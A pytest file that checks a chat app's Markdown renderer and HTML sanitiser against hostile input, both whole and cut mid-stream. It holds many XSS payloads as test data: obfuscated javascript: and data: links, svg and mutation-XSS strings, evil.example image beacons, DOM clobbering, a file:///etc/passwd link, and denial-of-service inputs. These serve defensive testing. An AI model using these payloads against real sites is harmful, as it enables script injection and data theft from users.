"""Hostile Markdown, whole and cut anywhere, since a reply is shown while it is being written."""

import random
import re
import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from pygments.token import STANDARD_TYPES

from chat import markdown
from chat.markdown import LiveHtml
from chat.markdown.sanitise import sanitise
from tests.support.markup import undirected


def render(text):
    return undirected(markdown.render(text))


NAMES = (
    "a blockquote br code col colgroup del div em h1 h2 h3 h4 h5 h6 hr input label li math mi mn mo mrow mspace mtext"
    " msup p pre section span strong sup u mark kbd s ins details summary sub table tbody td th thead tr ul ol"
)
TAGS = set(NAMES.split())
ATTRIBUTES = {
    "a": {"class", "href", "rel", "target", "title"},
    "code": {"class"},
    "col": {"width"},
    "div": {"class", "data-ending", "data-file", "data-language", "data-lines", "data-name", "tabindex"},
    "input": {"checked", "disabled", "type"},
    "li": {"class"},
    "math": {"data-latex", "display"},
    "mo": {"lspace", "rspace", "stretchy"},
    "mrow": {"mathcolor"},
    "mspace": {"class"},
    "ol": {"start"},
    "p": {"class"},
    "pre": {"tabindex"},
    "section": {"class"},
    "span": {"class", "tabindex"},
    "sup": {"class"},
    "td": {"align"},
    "th": {"align"},
    "ul": {"class"},
}
for tag in (
    "blockquote",
    "code",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "li",
    "p",
    "pre",
    "summary",
    "td",
    "th",
):
    ATTRIBUTES[tag] = ATTRIBUTES.get(tag, set()) | {"dir"}
CLASSES = {"code", "contains-task-list", "footnote-ref", "footnotes", "image", "math", "mono", "raw", "table"}
CLASSES |= {*(f"back-{n}" for n in range(1, 37)), "task-list-item", *STANDARD_TYPES.values()}


class Page(HTMLParser):
    """Collects what a reader could be harmed by."""

    def __init__(self, html):
        super().__init__()
        self.faults = []
        self.links = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        if tag not in TAGS:
            self.faults.append(tag)
        for name, value in attrs:
            if name not in ATTRIBUTES.get(tag, ()):
                self.faults.append(f"{tag} {name}")
            elif name == "class":
                names = (value or "").split()
                self.faults += [x for x in names if x not in CLASSES and not x.startswith("language-")]
            elif name == "href":
                self._link(value)

    def _link(self, address):
        self.links.append(address)
        parts = urlsplit(address)
        if parts.scheme not in {"http", "https", "mailto"} or (
            parts.scheme != "mailto" and "@" in parts.netloc
        ):
            self.faults.append(address)

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        self.faults.append(f"<!--{data}")

    def handle_decl(self, decl):
        self.faults.append(f"<!{decl}")

    def handle_pi(self, data):
        self.faults.append(f"<?{data}")


def assert_safe(html):
    assert Page(html).faults == []


def assert_safe_in_pieces(text):
    """At every character below 2 kB, at 50 random places above."""
    places = (
        range(1, len(text))
        if len(text) < 2_000
        else sorted(random.Random(57).sample(range(1, len(text)), 50))
    )
    live, start = LiveHtml(), 0
    for place in places:
        live.feed(text[start:place])
        assert_safe(live.html)
        start = place
    live.feed(text[start:])
    live.flush()
    assert live.html == markdown.render(text)


LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java&#10;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61;vascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "java%0ascript:alert(1)",
    "\\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "DATA:image/svg+xml,<svg/onload=alert(1)>",
    "data:image/png;base64,AA",
    "vbscript:msgbox(1)",
    "VbScRiPt:msgbox(1)",
    "file:///etc/passwd",
    "ftp://x.example/",
    "blob:https://x.example/1",
    "view-source:https://x.example",
    "ws://x.example",
    "tel:1",
    "sms:1",
    "intent://x#Intent;end",
    "about:blank",
    "//evil.example/x",
    "///evil.example/x",
    "\\\\evil.example\\x",
    "/\\evil.example",
    "/accounts/logout/",
    "?next=x",
    "#top",
    "x.html",
    "",
    "https://ok.example@evil.example/",
    "https://ok.example:pw@evil.example/",
    "https:ok.example@evil.example/",
    "https:/\\ok.example@evil.example/",
    "HTTPS://ok.example%40x@evil.example/",
    "javascript://x.example/%0aalert(1)",
]
LINK_FORMS = [
    "[a]({})",
    "[a](<{}>)",
    "[a][b]\n\n[b]: {}\n",
    "[b]\n\n[b]: <{}> 'c'\n",
    "<{}>",
    "![a]({})",
    "![b]\n\n[b]: <{}>\n",
    "[![a]({0})]({0})",
    "{}",
]


@pytest.mark.parametrize("form", LINK_FORMS)
@pytest.mark.parametrize("address", LINKS)
def test_no_link_leads_elsewhere_than_to_the_web(address, form):
    text = form.format(address)
    assert_safe(render(text))
    assert_safe_in_pieces(text)


@pytest.mark.parametrize("address", LINKS)
def test_a_refused_address_is_no_link_at_all(address):
    assert Page(render(f"[a](<{address}>)")).links == []


SAMPLES = {
    "48 images": "![a](https://evil.example/p?d=S) ![][r] <img src=//evil.example srcset='//evil.example 2x'>"
    "\n\n[r]: https://evil.example/p.png",
    "48 image in raw html": "<picture><source srcset=//evil.example><image href=//evil.example></picture>",
    "48 css url": "<p style='background:url(//evil.example)'>\n\n<link rel=preload href=//evil.example>",
    "48 media": "<video poster=//evil.example src=//evil.example></video><audio src=//evil.example autoplay>",
    "49 autolink with a quote": '<https://x.example/"onmouseover=alert(1)//> https://x.example/"onx="y',
    "49 bare address with a quote": "www.x.example/'onclick='alert(1) \"me@x.example\"onx=1",
    "50 info string": '```"onmouseover="alert(1)\na\n```\n~~~ x" class="modal\nb\n~~~',
    "50 info string with controls": "```py\x0conx=1\x0bmodal\na\n```\n\n``` a<b>&#34;onx=1\nb\n```",
    "50 unknown language": "```<script>\n<script>alert(1)</script>\n```\n```nosuch\n<b onx=1>\n```",
    "50 known language": "```html\n<script>alert('</code></pre><script>')</script>\n```",
    "51 svg": "<svg onload=alert(1)><svg/onload=alert(1)><svg><image href=//evil.example>",
    "51 math": "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "51 iframe": "<iframe srcdoc='<script>alert(1)</script>'></iframe>\n\n<iframe src=javascript:alert(1)>",
    "51 base and meta": "<base href=//evil.example>\n<meta http-equiv=refresh content='0;url=//evil'>",
    "51 form": "<form action=//evil.example><input name=q><button formaction=javascript:alert(1)>Go</button>",
    "51 style": "<style>@import '//evil.example'; body{display:none}</style>\n<link rel=stylesheet>",
    "51 script": "<script>alert(1)</script>\n<script src=//evil.example></script>\n</script>",
    "51 declarations": "<!doctype html><!-- a --> <?php x ?> <![CDATA[ x ]]> <!--> --!> <!-",
    "52 title": '[a](http://x.example \'"onmouseover="alert(1)\') [b](http://x.example "\'><script>")',
    "52 alt": '!["onerror="alert(1)](http://x.example/p "\'onload=\'alert(1)")',
    "52 label": '[a"onx=1]\n\n[a"onx=1]: http://x.example/"onx=1 "<b>"',
    "53 noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "53 template": "<template><style></template><img src=x onerror=alert(1)></style>",
    "53 svg style": "<svg><style><img src=x onerror=alert(1)></style></svg><math><mtext><table><mglyph>",
    "53 math": '<math><mtext></p><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    "53 select": "<select><template><s></select><xmp></xmp><plaintext>",
    "54 clobbering": "<a id=body name=getElementById><form name=cookie><input id=length>\n\n# location",
    "54 footnote": 'a[^body"onx=1] [^top]\n\n[^body"onx=1]: b\n\n[^top]: c [^top]',
    "formula text": r"$\text{<script>alert(1)</script>}$ $$\text{<img src=x onerror=alert(1)>}$$",
    "formula broken": "$\\bad{<script>$ $$<img src=x>$$\n\n$$\n</code><script>\n$$\n\n```math\n\\x<b>\n```",
    "formula links": r"$\href{javascript:alert(1)}{x}$ $\url{javascript:x}$ $\htmlId{body}{x}$ $\label{b}$",
    "formula styles": r"$\class{modal}{x} \style{position:fixed}{y}$ $\color{red}{x}$ $\hspace{-99em}x$",
    "table": "| <script> | [a](javascript:x) | ![a](//e) |\n|:--|:-:|--:|\n| `</td>` | $\\text{<b>}$ | <b |",
    "tasks": "- [x] <script>\n- [ ] <input type=submit>\n  <b>\n\n- [x]\n- [ ] a</p></label>",
    "entities": "&lt;script&gt; &#60;script&#62; &#x3C;img&#x3E; `&lt;b&gt;` &amp;lt; &NewLine;&Tab;",
    "template syntax": "{{7*7}} {% debug %} ${SECRET} <%= 1 %> ]]> --> </script>",
    "controls": "a\x00<b\x00>c\x00[d](java\x00script:x)\u2028<\u202escript\u2029> [e](\u200bjavascript:x)",
    "separators": "a\x0b<b>\x0c[c](\x0cjavascript:x)\x85\x1c\x1d\x1e<d>",
    "cut pairs": "😀**😀**`😀`[😀](http://x.example/😀)\n\n```py\n'😀'\n```",
    "long": "[a](javascript:x) <script> ![b](http://x.example) `c` **d** $e$\n\n" * 60,
}


@pytest.mark.parametrize("text", SAMPLES.values(), ids=SAMPLES)
def test_hostile_markdown_stays_harmless_whole_and_cut_anywhere(text):
    assert_safe(render(text))
    assert_safe_in_pieces(text)


@pytest.mark.parametrize("name", [name for name in SAMPLES if name[:2] in {"51", "53"}])
def test_raw_html_stays_visible(name):
    assert Page(render(SAMPLES[name])).text.split() == SAMPLES[name].split()


@pytest.mark.parametrize(
    ("text", "source"),
    [
        (r"$\bad{<script>}$", r'<code class="math">\bad{&lt;script&gt;}</code>'),
        (
            r"$$\frac{<b>$$",
            r'<span class="math" tabindex="0"><code class="math">\frac{&lt;b&gt;</code></span>',
        ),
        ("$$\n<b> & \\bad\n$$", '<code class="math">&lt;b&gt; &amp; \\bad</code></span>'),
        (r"$\newcommand{\x}{<b>}\y$", r'<code class="math">\newcommand{\x}{&lt;b&gt;}\y</code>'),
        (r"$\hspace{99cm}<b>$", r'<code class="math">\hspace{99cm}&lt;b&gt;</code>'),
        ("$" + "{" * 999 + "<b>" + "}" * 999 + "$", "{&lt;b&gt;}"),
        ("$" + r"\sqrt" * 999 + " <b>$", r"\sqrt &lt;b&gt;"),
        ("$" + "<b>" * 9_999 + "$", "&lt;b&gt;&lt;b&gt;"),
        (r"$\text{<script>}$", "<mtext>&lt;script&gt;</mtext>"),
        ("```nosuch\n<script>\n```", '<code class="language-nosuch">&lt;script&gt;\n</code>'),
        ("```python\n<script>" + "x" * 9_999 + "\n```", '<code class="language-python">&lt;script&gt;'),
        ("```python\n" + "<script>\n" * 9_999 + "```", '<code class="language-python">&lt;script&gt;'),
    ],
)
def test_what_a_renderer_cannot_show_is_shown_as_escaped_source(text, source):
    assert source in render(text)


def test_a_lexer_that_fails_leaves_the_code_escaped(monkeypatch):
    def fail(name, **options):
        raise IndexError(name)

    monkeypatch.setattr("chat.markdown.code.get_lexer_by_name", fail)
    assert '<code class="language-python">&lt;script&gt;\n</code>' in render("```python\n<script>\n```")


WIDE_TABLE = "|a" * 2_000 + "|\n" + "|-" * 2_000 + "|\n"
PATHOLOGICAL = {
    "nested quotes": ">" * 5_000 + "x",
    "nested quotes with gaps": "> " * 5_000 + "x",
    "nested lists": "\n".join("  " * depth + "- a" for depth in range(1_000)),
    "nested lists on a line": "- " * 5_000 + "a",
    "nested emphasis": "*" * 10_000 + "a" + "*" * 10_000,
    "brackets": "[" * 50_000,
    "image brackets": "![" * 20_000,
    "strong": "**a " * 30_000,
    "backticks": "".join("`" * length + "a " for length in range(600)),
    "wide table": WIDE_TABLE + "|b" * 2_000,
    "wide table of short rows": WIDE_TABLE + "|x|\n" * 300,
    "unclosed formulas": "\\(" * 20_000,
    "unclosed formulas on lines": "\\(a\n" * 3_000,
    "e-mail addresses": "a@b.c " * 5_000,
    "e-mail addresses on lines": "a@b.c\n" * 3_000,
    "brackets behind an address": "www.a.b/" + ")" * 20_000,
    "brackets and full stops behind an address": "see https://a.b/" + ")." * 20_000,
    "ampersands": "a &" * 10_000,
    "ampersands in an address": "http://a.example/" + "&a" * 5_000,
    "nested groups in a formula": "$" + "{" * 9_000 + "}" * 9_000 + "$",
    "nested commands in a formula": "$" + "\\frac1" * 1_500 + "1$",
}


@pytest.mark.parametrize("text", PATHOLOGICAL.values(), ids=PATHOLOGICAL)
def test_pathological_markdown_ends_in_bounded_output(text):
    html = render(text)
    assert_safe(html)
    assert len(html) < 20 * len(text)
    assert html.count("<blockquote>") <= 100
    assert_safe_in_pieces(text)


def test_text_beyond_the_deepest_nesting_stays():
    for text in (">" * 5_000 + "words", "- " * 5_000 + "words", "*" * 5_000 + "words" + "*" * 5_000):
        assert "words" in render(text)


def test_of_many_addresses_in_a_paragraph_none_is_lost_and_the_next_paragraph_has_links_again():
    html = render("a@b.c " * 5_000 + "\n\nd@e.f")
    assert re.sub("<[^>]*>", "", html).count("a@b.c") == 5_000
    assert html.count("mailto:d@e.f") == html.count("mailto:") == 1


def test_of_the_brackets_behind_an_address_none_is_lost():
    html = render("www.a.b/" + ")" * 5_000 + " and *words*")
    assert html.startswith('<p><a href="http://www.a.b/"')
    assert html.count(")") == 5_000
    assert html.endswith(" and <em>words</em></p>")


def test_ampersands_are_sanitised_in_a_time_that_grows_with_their_number_and_none_is_lost():
    before = time.process_time()
    html = sanitise("<p>" + "&amp;" * 300_000 + "</p>")
    assert time.process_time() - before < 1  # 2.5 s as nh3 takes them
    assert undirected(html) == "<p>" + "&amp;" * 300_000 + "</p>"


def test_of_a_table_without_end_the_first_cells_are_a_table_and_no_word_is_lost():
    rows = 30_000
    html = render("|a|b|\n|-|-|\n" + "|x|y|\n" * rows)
    assert 6_000 < html.count("<td") < 20_000
    assert re.sub("<[^>]*>", "", html).count("x") == rows
